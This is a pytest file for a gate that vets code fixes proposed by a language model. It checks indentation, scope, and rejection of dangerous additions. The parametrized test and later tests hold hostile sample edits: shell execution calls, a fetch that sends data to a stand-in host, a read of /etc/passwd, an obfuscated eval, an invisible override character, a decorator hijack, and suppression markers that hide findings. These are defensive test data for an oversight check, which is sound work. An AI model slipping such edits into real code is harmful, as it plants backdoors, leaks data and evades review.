"""The vetting gate for model fixes (postil.gate.vetting) on its own, in several languages."""

from __future__ import annotations

import pytest

from postil.analyzers.findings import LineIndex
from postil.analyzers.llm.anchor import clean_snippet, locate
from postil.gate.vetting import Scope, placed_replacement, vet_file, vet_fix

PY = "def f(user, debug):\n\tif debug:\n\t\tlog(user)\n\tcheck(user)\n"


def vet(text: str, language: str, quote: str, improved: str, **kw):
    quote = clean_snippet(quote)
    start, end, _ = locate(text, quote, (0, len(text)))
    return vet_fix(text, language, start=start, end=end, quote=quote, improved=improved,
                   scope=kw.pop("scope", Scope((0, len(text)))), **kw)


def test_indentation_is_kept_exactly_relative_to_the_quote_tabs_included():
    index = LineIndex(PY)
    quote = "if debug:\n\tlog(user)\ncheck(user)"  # the model dedented the block by one tab
    start, end, _ = locate(PY, quote, (0, len(PY)))
    new = placed_replacement(index, start, end, quote, "if debug:\n\tlog(user.id)\ncheck(user)")
    assert PY[:start] + new + PY[end:] == PY.replace("log(user)", "log(user.id)")
    # a block whose lines do not share one offset from the file cannot be placed faithfully
    assert placed_replacement(index, start, end, "if debug:\n\t\t\tlog(user)\ncheck(user)", "if debug:\nx()") is None


def test_a_mid_line_quote_continues_at_the_lines_indentation():
    text = "def f(a):\n    total = compute(a)\n    return total\n"
    verdict = vet(text, "python", "compute(a)", "compute(a)\nassert total")
    assert verdict.edit is not None and verdict.edit.new_text == "\n    assert total"
    verdict = vet(text, "python", "compute(a)", "compute(a) or 0")
    assert verdict.edit is not None and verdict.edit.new_text == " or 0"


@pytest.mark.parametrize("language, text, quote, improved, what", [
    ("javascript", "function f(x) {\n  return x + 1;\n}\n", "return x + 1;",
     "return require('child_process').execSync(x);", "call"),
    ("javascript", "function f(x) {\n  return x + 1;\n}\n", "return x + 1;",
     "return x + 1; // eslint-disable-line", "suppression marker"),
    ("typescript", "function f(x: number) {\n  return x + 1;\n}\n", "return x + 1;",
     "return fetch('https://x.example/?' + x);", "call"),
    ("go", "package p\n\nfunc f(x int) int {\n\treturn x + 1\n}\n", "return x + 1",
     "exec.Command(\"sh\").Run()\n\treturn x + 1", "call"),
    ("rust", "fn f(x: i32) -> i32 {\n    x + 1\n}\n", "x + 1", "std::process::Command::new(\"sh\");\nx + 1", "call"),
    ("python", "def f(x):\n    return x + 1\n", "return x + 1", "return x + 1  # nosec", "suppression marker"),
    ("python", "def f(x):\n    return x + 1\n", "return x + 1", "return open('/etc/passwd').read()", "call"),
    ("python", "def f(x):\n    return x + 1\n", "return x + 1", "from os import system\nreturn x + 1", "import"),
    # names bound by the file's own imports are read through them
    ("python", "import subprocess as sp\n\n\ndef f(x):\n    return x + 1\n", "return x + 1", "return sp.call(x)",
     "subprocess.call"),
    ("python", "from subprocess import run\n\n\ndef f(x):\n    return x + 1\n", "return x + 1", "return run(x)",
     "subprocess.run"),
    ("javascript", "const { execSync: go } = require('child_process');\nfunction f(x) {\n  return x;\n}\n",
     "return x;", "return go(x);", "child_process.execSync"),
    ("javascript", "function f(x) {\n  return x;\n}\n", "return x;", "return globalThis['ev' + 'al'](x);", "call"),
    ("python", "def f(x):\n    return x + 1\n", "return x + 1", "return x + 1  # \u202e", "invisible"),
])
def test_dangerous_additions_are_found_on_the_syntax_tree(language, text, quote, improved, what):
    verdict = vet(text, language, quote, improved)
    assert verdict.edit is None and what in verdict.reason


def test_an_existing_call_may_stay_and_a_harmless_fix_passes():
    text = "import subprocess\n\n\ndef f(cmd):\n    return subprocess.run(cmd, shell=True)\n"
    verdict = vet(text, "python", "subprocess.run(cmd, shell=True)", "subprocess.run(cmd, shell=False)")
    assert verdict.edit is not None and verdict.edit.new_text == "Fals"


def test_scope_quote_outside_the_unit_or_off_the_focus_lines():
    text = "X = 1\nY = 2\n"
    assert "not inside" in vet(text, "python", "Y = 2", "Y = 3", scope=Scope((0, 5))).reason
    off = vet(text, "python", "Y = 2", "Y = 3", scope=Scope((0, len(text)), (frozenset({0}),)))
    assert "not on the lines" in off.reason


def rules(text: str):
    from pathlib import Path

    from postil.analyzers.checker import Checker
    from postil.config import LoadedConfig, PostilConfig

    return Checker(LoadedConfig(PostilConfig(), None, Path("/tmp"))).check_text(Path("m.py"), text, allow_fixes=False)


def test_the_file_check_rejects_new_and_hidden_rule_findings():
    from postil.analyzers.rules.fixes import minimal_edit

    text = "def f(x):\n    y = x\n    return y\n\n\ndef g(s):\n    return eval(s)\n"
    index = LineIndex(text)
    start = text.index("y = x")
    new = minimal_edit(index, start, start + len("y = x"), "y = eval(x)")
    hide = minimal_edit(index, start, start + len("y = x"), "y = x  # postil: ignore-file")
    honest = minimal_edit(index, start, start + len("y = x"), "y = x or 0")
    assert "rules would report" in vet_file(text, "python", [new], rules)[0]
    assert "no longer report" in vet_file(text, "python", [hide], rules)[0]
    assert vet_file(text, "python", [honest], rules) == [None]


def test_no_node_of_the_fix_may_reach_past_the_unit(monkeypatch):
    """The second line of defence for case 3: even a decorator not recognised as one (here:
    the decorator check switched off) cannot take over the next, unreviewed function."""
    from postil.gate import vetting

    monkeypatch.setattr(vetting, "_DECORATOR_KINDS", frozenset())
    text = "def helper(x):\n    return x + 2\n\n\ndef transfer(a):\n    check(a)\n"
    unit = Scope((0, text.index("\n\n\ndef transfer")))
    verdict = vet(text, "python", "    return x + 2", "    return x + 2\n\n\n@lambda f: (lambda *a: None)", scope=unit)
    assert verdict.edit is None and "outside the reviewed unit" in verdict.reason
